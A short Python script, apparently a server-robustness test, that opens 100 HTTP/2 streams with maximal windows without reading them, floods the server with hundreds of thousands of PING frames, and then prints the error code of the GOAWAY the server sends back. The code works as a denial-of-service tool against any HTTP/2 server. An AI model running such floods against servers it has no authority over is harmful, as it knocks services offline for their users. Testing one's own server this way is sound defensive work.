"""A client of HTTP/2 that asks for 100 documents, takes none, and floods; then one that floods alone, and prints the error with which it is sent away. Address,
port, "plain" or "tls", path of a large document."""
import socket
import ssl
import struct
import sys
import time

from misbehaving_http2 import END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, SETTINGS, WINDOW_UPDATE, field, frame


def connect(address, port, over):
    connection = socket.create_connection((address, port), 5)
    if over == "plain":
        return connection
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def main(address, port, over, path):
    ping = frame(PING, 0, 0, b"12345678")
    with connect(address, int(port), over) as connection:
        block = field(b":method", b"GET") + field(b":scheme", b"http") + field(b":path", path.encode()) + field(b":authority", b"x")
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2 ** 31 - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2 ** 31 - 65536)) +
                           b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block) for i in range(100)))
        time.sleep(1)  # all windows are open, and nobody reads
        connection.settimeout(3)
        try:
            connection.sendall(ping * 500000)
        except OSError:
            pass
    with connect(address, int(port), over) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + ping * 1000)
        connection.settimeout(5)
        said = b""
        while part := connection.recv(65536):
            said += part
        print(struct.unpack(">I", said[-4:])[0])  # of its GOAWAY


if __name__ == "__main__":
    main(*sys.argv[1:])
